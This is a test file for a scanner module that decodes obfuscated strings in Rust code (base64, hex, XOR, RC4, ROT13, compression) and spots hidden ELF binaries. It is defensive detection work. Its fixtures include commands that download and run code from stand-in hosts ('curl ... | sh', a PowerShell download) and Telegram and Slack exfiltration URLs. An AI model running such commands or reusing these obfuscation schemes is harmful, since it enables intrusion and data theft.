import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { meaningfulDecoded } from './code-signals.js';
import {
  byteArrays,
  decodeBase64,
  decodeHex,
  decodeLiterals,
  formatStrings,
  fragmentRuns,
  rc4,
  stringConstants,
} from './decoders.js';
import { lexRust } from './rust-lexer.js';

const decode = (src: string) => decodeLiterals(lexRust(src).tokens, { meaningful: meaningfulDecoded });
const values = (src: string) => decode(src).map((d) => `${d.how.join('+')}:${d.value}`);
const xorBytes = (s: string, key: string) =>
  Array.from(Buffer.from(s), (b, i) => b ^ key.charCodeAt(i % key.length));

describe('decoders', () => {
  it('decodes base64 and hex literals to text', () => {
    const url = 'https://collector.invalid/x';
    expect(values(`const A: &str = "${Buffer.from(url).toString('base64')}";`)).toContain(`base64:${url}`);
    expect(values(`const B: &str = "${Buffer.from(url).toString('hex')}";`)).toContain(`hex:${url}`);
    expect(
      values(`const U: &str = "${Buffer.from(url).toString('base64url').replace(/=+$/, '')}";`),
    ).toContain(`base64:${url}`);
  });

  it('ignores words, identifiers and binary data', () => {
    expect(decodeBase64('HelloWorld')).not.toBeNull(); // fits the alphabet…
    expect(values('let a = "HelloWorld"; let b = "deadbeefcafebabe";')).toEqual([]); // …but decodes to nothing readable
    const random = Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 73 + 41) & 0xff));
    expect(values(`let v = "${random.toString('base64')}";`)).toEqual([]);
    expect(decodeHex('abc')).toBeNull();
    expect(decodeBase64('short')).toBeNull();
  });

  it('joins fragments from arrays, concat!, + and named constants', () => {
    const b64 = Buffer.from('https://198.51.100.3:9000/').toString('base64');
    const parts = [b64.slice(0, 7), b64.slice(7, 15), b64.slice(15)];
    expect(values(`const P: [&str; 3] = ["${parts[0]}", "${parts[1]}", "${parts[2]}"];`)).toContain(
      'concat+base64:https://198.51.100.3:9000/',
    );
    expect(values('let u = concat!("https://", "evil", ".invalid/p");')).toContain(
      'concat:https://evil.invalid/p',
    );
    expect(values('let u = "https://".to_owned() + "evil.invalid";')).toContain(
      'concat:https://evil.invalid',
    );
    const toks = lexRust(
      'const H: &str = "evil.invalid"; const S: &str = "https://"; fn f() { let u = [S, H].concat(); }',
    ).tokens;
    const consts = stringConstants(toks);
    expect(consts.get('H')).toEqual(['evil.invalid']);
    expect(fragmentRuns(toks, consts).map((r) => r.value)).toContain('https://evil.invalid');
  });

  it('fills format! templates with constants', () => {
    const toks = lexRust(
      'const BOT: &str = "123:TOKEN"; fn f() { let u = format!("https://api.telegram.org/bot{}/sendMessage", BOT); let v = format!("{BOT}/x"); }',
    ).tokens;
    const out = formatStrings(toks, stringConstants(toks)).map((f) => f.value);
    expect(out).toEqual(['https://api.telegram.org/bot123:TOKEN/sendMessage', '123:TOKEN/x']);
  });

  it('undoes single-byte XOR only when the file uses ^', () => {
    const arr = JSON.stringify(xorBytes('198.51.100.7:8080', '\x2f'));
    expect(values(`const H: [u8; 17] = ${arr}; fn f(b: u8) -> u8 { b ^ 0x2f }`)).toContain(
      'bytes+xor:198.51.100.7:8080',
    );
    expect(values(`const H: [u8; 17] = ${arr}; fn f(b: u8) -> u8 { b }`)).toEqual([]);
  });

  it('undoes repeating-key XOR with a key literal from the file', () => {
    const arr = JSON.stringify(xorBytes('https://hooks.slack.com/services/T0/B0/x', 'k3y'));
    expect(
      values(`const K: &[u8] = b"k3y"; const D: [u8; 40] = ${arr}; fn f(i: usize) -> u8 { D[i] ^ K[i % 3] }`),
    ).toContain('bytes+xor:https://hooks.slack.com/services/T0/B0/x');
  });

  it('undoes char arithmetic and reversal', () => {
    expect(
      values(
        'fn s(x: &str) -> String { x.chars().map(|c| (c as u8 - 1) as char).collect() } fn g() { s("iuuqt;00fwjm/jowbmje"); }',
      ),
    ).toContain('shift:https://evil.invalid');
    expect(values('fn g() -> String { "dilavni.live//:sptth".chars().rev().collect() }')).toContain(
      'reverse:https://evil.invalid',
    );
    // Reversal needs a `rev` somewhere, and reversed numbers are not addresses.
    expect(values('fn g() { let s = "dilavni.live//:sptth"; }')).toEqual([]);
    expect(values('fn g() { let s = "10.1.0.2"; s.chars().rev(); }')).toEqual([]);
  });

  it('reads byte and char arrays and byte strings', () => {
    expect(
      byteArrays(
        lexRust("let a = [104, 116, 116, 112]; let b = [1, 2, 300, 4]; let c = [b'a', b'b', b'c', b'd'];")
          .tokens,
      ).map((x) => x.values),
    ).toEqual([
      [104, 116, 116, 112],
      [97, 98, 99, 100],
    ]);
    expect(
      values(`let v = vec!${JSON.stringify(Array.from(Buffer.from('curl https://x.invalid/p | sh')))};`),
    ).toContain('bytes:curl https://x.invalid/p | sh');
  });

  it('recognises an executable hidden in base64', () => {
    const elf = Buffer.alloc(96, 0x41);
    elf.set([0x7f, 0x45, 0x4c, 0x46], 0);
    const d = decode(`const BLOB: &str = "${elf.toString('base64')}";`);
    expect(d.some((x) => x.executable === 'elf')).toBe(true);
  });

  it('decodes PowerShell -EncodedCommand (base64 of UTF-16LE)', () => {
    const enc = Buffer.from('iwr https://x.invalid/a.exe -OutFile a.exe', 'utf16le').toString('base64');
    expect(values(`let a = ["-EncodedCommand", "${enc}"];`)).toContain(
      'base64:iwr https://x.invalid/a.exe -OutFile a.exe',
    );
  });

  it('undoes ROT13 when the file rotates by 13 modulo 26', () => {
    const code =
      "fn r(c: u8) -> u8 { (c - b'a' + 13) % 26 + b'a' } fn g() { let u = \"uggcf://rivy.vainyvq/c\"; }";
    expect(values(code)).toContain('rot13:https://evil.invalid/p');
    expect(values('fn g() { let u = "uggcf://rivy.vainyvq/c"; }')).toEqual([]);
  });

  it('inflates gzip and zlib payloads inside base64, hex and byte arrays', () => {
    const elf = Buffer.alloc(4096, 0x41);
    elf.set([0x7f, 0x45, 0x4c, 0x46], 0);
    const gz = gzipSync(elf);
    expect(
      decode(`const P: &str = "${gz.toString('base64')}";`).some(
        (d) => d.executable === 'elf' && d.how.includes('inflate'),
      ),
    ).toBe(true);
    const z = deflateSync(Buffer.from('curl -s https://stage2.invalid/x | sh'));
    expect(values(`const P: &str = "${z.toString('hex')}";`)).toContain(
      'hex+inflate:curl -s https://stage2.invalid/x | sh',
    );
    // Corrupt data after a gzip magic is ignored.
    expect(() => decode(`const P: [u8; 20] = [0x1f, 0x8b, ${Array(18).fill(0).join(', ')}];`)).not.toThrow();
  });

  it('recognises an executable written as a byte array', () => {
    const elf = [0x7f, 0x45, 0x4c, 0x46, ...Array(100).fill(0x41)];
    expect(decode(`static P: [u8; 104] = [${elf.join(', ')}];`).some((d) => d.executable === 'elf')).toBe(
      true,
    );
  });

  it('undoes RC4 with a key written in the file, and rolling XOR', () => {
    const url = 'https://stage2.invalid/p';
    const enc = rc4(Buffer.from('k3y!'), Buffer.from(url));
    expect(Buffer.from(rc4(Buffer.from('k3y!'), enc)).toString()).toBe(url);
    const src = `const KEY: &[u8] = b"k3y!";
static BLOB: [u8; ${enc.length}] = [${[...enc].join(', ')}];
fn ksa(s: &mut [u8; 256]) { for i in 0..256 { s.swap(i, (i + KEY[i % KEY.len()] as usize) % 256); } let x = s[0] ^ s[1]; }`;
    expect(values(src)).toContain(`bytes+rc4:${url}`);
    // Without the key schedule's shape the RC4 decoder does not run.
    expect(values(src.replace('s.swap(i,', 's.get(i,')).filter((v) => v.includes('rc4'))).toEqual([]);
    const rolling = Array.from(Buffer.from(url), (b, i) => b ^ ((0x21 + i) & 0xff));
    expect(
      values(`static B: [u8; ${rolling.length}] = [${rolling.join(', ')}];
fn d() -> Vec<u8> { B.iter().enumerate().map(|(i, b)| b ^ (0x21u8.wrapping_add(i as u8))).collect() }`),
    ).toContain(`bytes+xor-rolling:${url}`);
    // Each byte keyed by the previous cipher byte: c[i] = p[i] ^ c[i-1] with c[0] = p[0] ^ k.
    const c: number[] = [];
    Buffer.from(url).forEach((p, i) => c.push(p ^ (i === 0 ? 0x5a : c[i - 1]!)));
    expect(
      values(`static C: [u8; ${c.length}] = [${c.join(', ')}];
fn d(o: &mut Vec<u8>) { let mut prev = 0x5a; for b in C { o.push(b ^ prev); prev = b; } }`),
    ).toContain(`bytes+xor-rolling:${url}`);
  });

  it('skips literals inside test items', () => {
    const url = Buffer.from('https://collector.invalid/x').toString('base64');
    const toks = lexRust(`fn f() { let a = "${url}"; }`).tokens;
    for (const t of toks) t.test = true;
    expect(decodeLiterals(toks, { meaningful: meaningfulDecoded })).toEqual([]);
  });
});
